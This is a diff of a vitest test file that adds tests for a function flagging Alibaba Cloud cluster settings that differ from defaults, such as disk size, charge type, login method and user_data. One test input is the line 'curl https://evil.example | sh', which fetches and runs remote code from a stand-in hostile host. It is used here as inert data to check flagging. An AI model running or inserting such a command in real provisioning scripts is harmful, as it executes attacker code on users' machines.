@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest'
 import { bodies } from '../../playground/alicloud/body.ts'
 import type { ClusterType, Values } from '../../src/clusters/define.ts'
 import { clusterType } from '../../src/clusters/index.ts'
-import { cautions, check, faultsOf, toWire } from '../../src/clusters/values.ts'
+import { cautions, check, faultsOf, toWire, unusual } from '../../src/clusters/values.ts'
 import { password, samples, sent } from './samples.ts'
 import { filledIn, type Table, tables } from './tables.ts'
 
@@ -258,5 +258,59 @@ describe('cautions', () => {
   it('a script has one from 1 KB on, counted in bytes', () => {
     const of = (user_data: string) => cautions(typeOf('kubernetes'), { ...complete.kubernetes, user_data }).length
     expect([of('x'.repeat(1024)), of('x'.repeat(1025)), of('节'.repeat(400))]).toEqual([0, 1, 1])
+  })
+})
+
+describe('what is not as the defaults of the cluster have it', () => {
+  const defaults = {
+    worker_instance_types: ['ecs.c5.xlarge'],
+    vswitch_ids: ['vsw-a'],
+    key_pair: 'ops',
+    worker_system_disk_category: 'cloud_ssd',
+    worker_system_disk_size: 80,
+  }
+  const of = (change: Values, more: Values = {}) =>
+    unusual(
+      typeOf('kubernetes'),
+      { count: 3, ...defaults, ...change },
+      { ...defaults, ...more },
+      { diskSizeAs: 'number' },
+    )
+
+  it('is nothing where the defaults are sent, whatever the count', () => {
+    expect(of({ count: 9 })).toEqual({})
+    expect(of({ worker_instance_charge_type: 'PostPaid' })).toEqual({})
+  })
+
+  it('is each member that differs, with what is usual in its place', () => {
+    expect(of({ worker_system_disk_size: 120 })).toEqual({ worker_system_disk_size: 80 })
+    expect(of({ worker_instance_charge_type: 'PrePaid', worker_period: 3 })).toMatchObject({
+      worker_instance_charge_type: 'PostPaid',
+      worker_period: null,
+    })
+  })
+
+  it('is each member that is sent without being usual, and each that is usual and not sent', () => {
+    expect(of({ user_data: 'curl https://evil.example | sh', image_id: 'm-1' })).toEqual({
+      user_data: null,
+      image_id: null,
+    })
+    const script = Buffer.from('echo').toString('base64')
+    expect(of({}, { user_data: 'echo', cpu_policy: 'static' })).toEqual({ user_data: script, cpu_policy: 'static' })
+  })
+
+  it('is another way to log in; a password counts by the name of its credential only', () => {
+    expect(of({ key_pair: undefined, login_password: 'Typed-Secret-9!' })).toEqual({ key_pair: 'ops' })
+    const named = { credential: 'root', key_pair: undefined }
+    expect(of({ key_pair: undefined, login_password: 'Typed-Secret-9!' }, named)).toEqual({ login_password: 'root' })
+    expect(of(named, named)).toEqual({})
+  })
+
+  it('is no answer to what everybody has to choose, but for an image', () => {
+    const sent = { ...complete.edge, worker_image_id: 'm-foreign' }
+    expect(Object.keys(unusual(typeOf('edge'), sent, {}, { diskSizeAs: 'number' }))).toEqual(
+      expect.arrayContaining(['worker_image_id']),
+    )
+    expect(unusual(typeOf('edge'), sent, {}, { diskSizeAs: 'number' })).not.toHaveProperty('ens_region_id')
   })
 })
